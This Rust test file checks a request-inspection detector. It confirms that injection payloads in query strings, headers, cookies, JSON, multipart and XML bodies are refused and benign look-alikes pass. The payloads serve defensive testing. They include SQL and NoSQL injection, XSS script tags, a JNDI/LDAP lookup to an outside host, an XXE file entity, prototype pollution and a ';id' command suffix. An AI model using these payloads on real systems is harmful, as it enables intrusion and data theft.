//! The detectors of our own: every part of a call, what the contract settles, exclusions, bounds, evidence.

use std::sync::Arc;

use bytes::Bytes;
use detect::{Families, Family};
use engine::control::{Direction, Message};
use engine::{Attached, Body, Control, Step, Verdict};
use http::Method;
use state::MemoryCells;
use testkit::{CallBuilder, FakeClock, core};

use super::super::builtin::{Builtin, Excluded, Settings};
use super::super::config::CallerSection;
use super::{end, form, request, short};

const ATTACK: &str = "x'+or+'1'%3D'1";

pub(super) fn settings() -> Settings {
    Settings { threshold: 5, excluded: Vec::new(), body: 100_000, whole: true, arguments: None }
}

pub(super) fn attach(settings: Settings, contract: Option<&str>, params: &[&str]) -> Box<dyn Attached> {
    let contract = contract.map(|text| {
        let assets = contract::Assets::from([("a.yaml".to_owned(), Arc::from(text.as_bytes()))]);
        let mut out = diagnostics::Diagnostics::new();
        let options = contract::Options::default();
        let mut sources = diagnostics::Sources::default();
        let api = contract::import("a.yaml", &assets, &mut sources, &options, &mut out).unwrap();
        Arc::clone(&api.operations[0])
    });
    let params: Vec<Box<str>> = params.iter().map(|name| Box::from(*name)).collect();
    let control: Arc<dyn Control> = Arc::new(Builtin::new(settings, None, contract, &params, true));
    control.attach(&core(&FakeClock::new(), &Arc::new(MemoryCells::new())))
}

fn json(body: &str) -> CallBuilder {
    CallBuilder::new(Method::POST, "/a").body("application/json", body.to_owned())
}

fn typed(kind: &'static str, body: &str) -> CallBuilder {
    CallBuilder::new(Method::POST, "/a").body(kind, body.to_owned())
}

/// Who is not named is looked at as everybody is, in the head and in bodies.
#[test]
fn exclusions_hold_for_the_callers_they_name() {
    let callers = |subject: Option<&str>, application: Option<&str>| CallerSection {
        issuer: "https://a".to_owned(),
        subject: subject.map(str::to_owned),
        application: application.map(str::to_owned),
    };
    let sql = |callers: Vec<CallerSection>| Excluded {
        families: Families::NONE.with(Family::Sql),
        everywhere: true,
        parameters: Vec::new(),
        headers: Vec::new(),
        cookies: Vec::new(),
        callers,
    };
    let named = sql(vec![callers(Some("alice"), None), callers(None, Some("reports"))]);
    let control = attach(Settings { excluded: vec![named], ..settings() }, None, &[]);
    for (issuer, subject, application, allowed) in [
        ("https://a", "alice", None, true),
        ("https://a", "bob", Some("reports"), true),
        ("https://a", "bob", Some("shop"), false),
        ("https://b", "alice", Some("reports"), false),
    ] {
        let by = |builder: CallBuilder| builder.principal(issuer, subject, application);
        let head = said(&*control, by(CallBuilder::get(&format!("/a?q={ATTACK}"))));
        let body = said(&*control, by(json(r#"{"a":"x' or '1'='1"}"#)));
        assert_eq!((head[0] == "ok", body[1] == "ok"), (allowed, allowed), "{issuer} {subject}");
    }
    assert_eq!(said(&*control, CallBuilder::get(&format!("/a?q={ATTACK}")))[0], "payload_refused");
    // Beside one that holds for everybody.
    let both = vec![sql(vec![callers(Some("alice"), None)]), sql(Vec::new())];
    let control = attach(Settings { excluded: both, ..settings() }, None, &[]);
    assert_eq!(said(&*control, CallBuilder::get(&format!("/a?q={ATTACK}")))[0], "ok");
}

/// What the stages say: the code of a refusal, or all of anything else.
pub(super) fn said(control: &dyn Attached, builder: CallBuilder) -> [String; 2] {
    request(control, &mut builder.build()).map(|said| said.split(':').next().unwrap_or_default().to_owned())
}

#[test]
fn an_attack_in_each_part_is_refused_and_its_twin_passes() {
    let control = attach(settings(), None, &["id"]);
    let head: [(CallBuilder, CallBuilder); 8] = [
        (CallBuilder::get("/a?q=x'+or+'1'%3D'1"), CallBuilder::get("/a?q=x's+or+y's")),
        (CallBuilder::get("/a?user%5B%24ne%5D=1"), CallBuilder::get("/a?user%5Bne%5D=1")),
        (CallBuilder::get("/a?%3Cscript%3Ealert(1)%3C/script%3E"), CallBuilder::get("/a?script")),
        (CallBuilder::get("/a/x;id").params(&["x;id"]), CallBuilder::get("/a/x;no").params(&["x;no"])),
        (
            CallBuilder::get("/a").header("cookie", "a=1; b=<script>alert(1)</script>"),
            CallBuilder::get("/a").header("cookie", "a=1; b=script"),
        ),
        (
            CallBuilder::get("/a").header("user-agent", "${jndi:ldap://192.0.2.1/a}"),
            CallBuilder::get("/a").header("user-agent", "curl/7.88.1 (x86_64; id)"),
        ),
        (
            CallBuilder::get("/a").header("authorization", "Bearer ${jndi:ldap://192.0.2.1/a}"),
            CallBuilder::get("/a").header("authorization", "Basic eCcgb3IgJzEnPScx"),
        ),
        (
            CallBuilder::get("/a").header("x-note", "x' or '1'='1"),
            CallBuilder::get("/a").header("x-note", "x's or y's"),
        ),
    ];
    for (attack, twin) in head {
        assert_eq!(said(&*control, attack.clone())[0], "payload_refused", "{attack:?}");
        assert_eq!(said(&*control, twin.clone()), ["ok", "ok"], "{twin:?}");
    }
    let multipart = |value: &str| {
        typed(
            "multipart/form-data; boundary=b",
            &format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--b--\r\n"),
        )
    };
    let body: [(CallBuilder, CallBuilder); 9] = [
        (form(&format!("q={ATTACK}")), form("q=x's+or+y's")),
        (json(r#"{"a":{"b":[1,"x' or '1'='1"]}}"#), json(r#"{"a":{"b":[1,"x's or y's"]}}"#)),
        (json(r#"{"a":"x\u0027 or \u00271\u0027=\u00271"}"#), json(r#"{"a":"x\u0027s"}"#)),
        (json(r#"{"password":{"$gt":""}}"#), json(r#"{"password":{"gt":""}}"#)),
        (json(r#"{"__proto__":{"a":1}}"#), json(r#"{"proto":{"a":1}}"#)),
        (multipart("x' or '1'='1"), multipart("x's or y's")),
        (
            typed("application/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a>&b;</a>"),
            typed("application/xml", "<a b='c'>d</a>"),
        ),
        (typed("application/xml", "<a b=\"x' or '1'='1\"/>"), typed("text/xml", "<a>x's or y's</a>")),
        (typed("text/plain", "x' or '1'='1"), typed("image/png", "x' or '1'='1")),
    ];
    for (attack, twin) in body {
        assert_eq!(said(&*control, attack.clone()), ["ok", "payload_refused"], "{attack:?}");
        assert_eq!(said(&*control, twin.clone()), ["ok", "ok"], "{twin:?}");
    }
}

#[test]
fn values_near_the_threshold_hide_none_behind_them() {
    let control = attach(Settings { threshold: 8, ..settings() }, None, &[]);
    let near: String = (0..50).map(|n| format!("n{n}=%3Ciframe+src%3Dx%3E&")).collect();
    let near = near.trim_end_matches('&');
    assert_eq!(said(&*control, form(near)), ["ok", "note"]);
    let hidden = format!("{near}&q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert_eq!(said(&*control, form(&hidden)), ["ok", "payload_refused"]);
}

#[test]
fn the_bound_on_values_of_a_body_leaves_no_head_unread() {
    let control = attach(Settings { arguments: Some(2), ..settings() }, None, &[]);
    let many = "/a?a&b&c&d&q=";
    assert_eq!(said(&*control, CallBuilder::get(&format!("{many}{ATTACK}")))[0], "payload_refused");
    assert_eq!(said(&*control, CallBuilder::get(&format!("{many}x"))), ["ok", "ok"]);
    let hidden = CallBuilder::get(many).header("x-note", "x' or '1'='1");
    assert_eq!(said(&*control, hidden)[0], "payload_refused");
}

#[test]
fn a_body_that_can_be_read_in_two_ways_is_refused() {
    let control = attach(settings(), None, &[]);
    let attack = r#"{"a":"x' or '1'='1"}"#;
    let refused = ["ok", "media_type_unsupported"];
    assert_eq!(
        said(&*control, typed("image/png", attack).header("content-type", "application/json")),
        refused
    );
    for kind in [
        "multipart/form-data; boundary=b; boundary=c",
        "application/x-www-form-urlencoded; charset=ibm037",
        "application/xml; charset=utf-7",
        "json",
    ] {
        assert_eq!(said(&*control, typed(kind, attack)), refused, "{kind}");
    }
    for kind in ["application/json", "application/json; charset=UTF-8"] {
        assert_eq!(said(&*control, typed(kind, attack)), ["ok", "payload_refused"], "{kind}");
        assert_eq!(said(&*control, typed(kind, r#"{"a":"x"}"#)), ["ok", "ok"], "{kind}");
    }
}

#[test]
fn xml_in_another_encoding_is_refused_and_its_texts_are_read_whole() {
    let control = attach(settings(), None, &[]);
    for (said_there, code) in [
        ("", "ok"),
        ("<?xml version='1.0'?>", "ok"),
        ("<?xml version='1.0' encoding='UTF-8'?>", "ok"),
        ("<?xml version='1.0' encoding='us-ascii'?>", "ok"),
        ("<?xml version='1.0' encoding='utf-7'?>", "media_type_unsupported"),
        ("<?xml version='1.0' encoding='ibm037'?>", "media_type_unsupported"),
    ] {
        for kind in ["application/xml", "text/xml", "application/soap+xml; charset=utf-8"] {
            let body = format!("{said_there}<a>plain</a>");
            assert_eq!(said(&*control, typed(kind, &body)), ["ok", code], "{kind} {body}");
        }
    }
    let padding = "a harmless text. ".repeat(64);
    let cut = |text: &str| typed("application/xml", &format!("<a><p>{padding}</p><q>{text}</q></a>"));
    let attack = "1 UNI<!---->ON SEL<![CDATA[ECT]]> password FR<!---->OM users";
    assert_eq!(said(&*control, cut(attack)), ["ok", "payload_refused"]);
    assert_eq!(said(&*control, cut("a uni<!---->on of se<![CDATA[lec]]>ted us<!---->ers")), ["ok", "ok"]);
}

#[test]
fn what_the_contract_settles_is_not_looked_at() {
    const CONTRACT: &str = r"
openapi: 3.1.0
info: { title: A, version: '1' }
paths:
  /a/{id}:
    get:
      parameters:
        - { name: id, in: path, required: true, schema: { type: string, format: uuid } }
        - { name: sort, in: query, schema: { type: string, enum: ['1 or 1=1', 'name'] } }
        - { name: free, in: query, schema: { type: string } }
      responses: { '204': { description: done } }
";
    let control = attach(settings(), Some(CONTRACT), &["id"]);
    let open = attach(settings(), None, &["id"]);
    let call = |query: &str| CallBuilder::get(&format!("/a/1?{query}")).params(&["1"]);
    assert_eq!(said(&*control, call("sort=1+or+1%3D1")), ["ok", "ok"]);
    assert_eq!(said(&*open, call("sort=1+or+1%3D1"))[0], "payload_refused");
    for query in ["sort=2+or+2%3D2", "free=1+or+1%3D1", "other=1+or+1%3D1"] {
        assert_eq!(said(&*control, call(query))[0], "payload_refused", "{query}");
    }
    assert_eq!(said(&*control, call("sort=name&free=name")), ["ok", "ok"]);
}

#[test]
fn the_decision_keeps_what_and_where_and_never_a_value() {
    let control = attach(settings(), None, &[]);
    let mut call = CallBuilder::get(&format!("/a?a=%2527+or+1%253D1--&q={ATTACK}")).build();
    let said = short(&end(control.head(&mut call)).1);
    assert_eq!(
        said,
        "payload_refused: score 8 of 5; sql/condition 8 in `query:a` (percent, bytes 2 to 8); \
         sql/condition 6 in `query:q` (plain, bytes 3 to 12)"
    );
    let mut call = json(r#"{"a":{"b`\n":[1,"<script>alert(1)</script>"]}}"#).build();
    let _ = end(control.head(&mut call));
    let said = short(&end(control.body(&mut call)).1);
    assert_eq!(
        said,
        "payload_refused: score 9 of 5; script/tag 9 in `json:json.a.b??.array_1` (plain, bytes 0 to 7)"
    );
}

#[test]
fn the_threshold_decides_and_what_is_just_below_is_a_note() {
    let at = |threshold: u8, query: &str| {
        let control = attach(Settings { threshold, ..settings() }, None, &[]);
        said(&*control, CallBuilder::get(&format!("/a?{query}")))[0].clone()
    };
    let weak = "u=http://192.0.2.1/";
    assert_eq!(at(5, weak), "payload_refused");
    assert_eq!(at(6, weak), "note");
    assert_eq!(at(7, weak), "ok");
    assert_eq!(at(6, &format!("q={ATTACK}")), "payload_refused");
}

#[test]
fn exclusions_hold_for_their_families_and_parts() {
    let excluded = |families, parameter: &str, header: &str| Excluded {
        families,
        everywhere: parameter.is_empty() && header.is_empty(),
        parameters: vec![parameter.to_owned()],
        headers: vec![header.to_owned()],
        cookies: Vec::new(),
        callers: Vec::new(),
    };
    let sql = Families::NONE.with(Family::Sql);
    let control = |one: Excluded| attach(Settings { excluded: vec![one], ..settings() }, None, &[]);
    let at = |control: &dyn Attached, name: &str, value: &str| {
        said(control, CallBuilder::get(&format!("/a?{name}={value}")))[0].clone()
    };
    let script = "%3Cscript%3Ealert(1)%3C/script%3E";
    let narrow = control(excluded(sql, "q", ""));
    assert_eq!(at(&*narrow, "q", ATTACK), "ok");
    assert_eq!(at(&*narrow, "r", ATTACK), "payload_refused");
    assert_eq!(at(&*narrow, "q", script), "payload_refused");
    let wide = control(excluded(sql, "", ""));
    assert_eq!(at(&*wide, "r", ATTACK), "ok");
    assert_eq!(at(&*wide, "r", script), "payload_refused");
    let all = control(excluded(Families::ALL, "json.a", "x-note"));
    assert_eq!(said(&*all, json(r#"{"a":"x' or '1'='1"}"#)), ["ok", "ok"]);
    assert_eq!(said(&*all, json(r#"{"b":"x' or '1'='1"}"#))[1], "payload_refused");
    // However long a name is, it is another one's.
    for inside in [r#"{"a":{"N":"x' or '1'='1"}}"#, r#"{"a":[{"N":"x' or '1'='1"}]}"#] {
        for length in [1, 250, 256, 5_000] {
            let body = inside.replace('N', &"n".repeat(length));
            assert_eq!(said(&*all, json(&body))[1], "payload_refused", "{length}");
            assert_eq!(said(&*all, json(&body.replace("' or '", "s or "))), ["ok", "ok"], "{length}");
        }
    }
    assert_eq!(said(&*all, CallBuilder::get("/a").header("x-note", "x' or '1'='1"))[0], "ok");
    assert_eq!(said(&*all, CallBuilder::get("/a").header("x-other", "x' or '1'='1"))[0], "payload_refused");
}

#[test]
fn bodies_are_bounded_as_configured() {
    let long = format!("{}x' or '1'='1", "a, ".repeat(10));
    let bounded = |whole, body| attach(Settings { body, whole, ..settings() }, None, &[]);
    assert_eq!(said(&*bounded(true, 20), typed("text/plain", &long))[1], "body_too_large");
    assert_eq!(said(&*bounded(true, 20), typed("text/plain", "short")), ["ok", "ok"]);
    assert_eq!(
        said(&*bounded(false, 20), typed("text/plain", &long)),
        ["ok", "ok"],
        "the rest goes on unread"
    );
    assert_eq!(said(&*bounded(false, 60), typed("text/plain", &long))[1], "payload_refused");
    let cut = format!(r#"["x' or '1'='1",{}1]"#, "1,".repeat(100));
    assert_eq!(said(&*bounded(false, 60), json(&cut))[1], "payload_refused", "what is read is looked at");
    let few = attach(Settings { arguments: Some(2), ..settings() }, None, &[]);
    assert_eq!(said(&*few, form("a=1&b=2")), ["ok", "ok"]);
    assert_eq!(said(&*few, form("a=1&b=2&c=3"))[1], "payload_refused");
    let encoded = typed("text/plain", "x").header("content-encoding", "gzip");
    assert_eq!(said(&*few, encoded)[1], "coding_unsupported");
}

#[test]
fn long_bodies_leave_the_core() {
    let control = attach(settings(), None, &[]);
    for (length, offloaded) in [(1_000, false), (20_000, true)] {
        let mut call = typed("text/plain", &"a, ".repeat(length / 3 + 1)).build();
        let _ = end(control.head(&mut call));
        let (left, verdict) = end(control.body(&mut call));
        assert_eq!((left, short(&verdict).as_str()), (offloaded, "ok"));
    }
    let mut call = CallBuilder::get("/a").build();
    call.body = engine::Body::new(Bytes::new());
    assert_eq!(short(&end(control.body(&mut call)).1), "ok");
}

#[test]
fn messages_of_a_client_are_inspected_whole_and_those_to_it_are_not() {
    let control = attach(settings(), None, &[]);
    let sent = |direction, text, payload: &str| {
        let mut message = Message { direction, text, body: Body::new(payload.to_owned().into()) };
        let mut call = CallBuilder::get("/a").build();
        match control.message(&mut call, &mut message) {
            Step::Done(Verdict::Allow | Verdict::Note(_)) => "passes",
            Step::Done(Verdict::Refuse(refusal)) => refusal.code.name,
            other => panic!("{other:?}"),
        }
    };
    for (attack, twin) in [
        ("x' or '1'='1", "x's or y's"),
        ("{\"q\": \"x' or '1'='1\"}", "{\"q\": \"x's or y's\"}"),
        ("{\"a\": [\"<script>alert(1)</script>\"]}", "{\"a\": [\"script\"]}"),
        ("{\"a\": \"\\u003cscript>alert(1)</script>\"}", "{\"a\": \"\\u003c 3\"}"),
        ("{broken <script>alert(1)</script>", "{broken"),
    ] {
        assert_eq!(sent(Direction::Up, true, attack), "payload_refused", "{attack}");
        assert_eq!(sent(Direction::Up, true, twin), "passes", "{twin}");
        assert_eq!(
            sent(Direction::Down, true, attack),
            "passes",
            "what the service says is its own: {attack}"
        );
        assert_eq!(
            sent(Direction::Up, false, attack),
            "passes",
            "bytes are no value of a language: {attack}"
        );
    }
    let long = "x".repeat(100_001);
    assert_eq!(sent(Direction::Up, true, &long), "message_too_large");
}
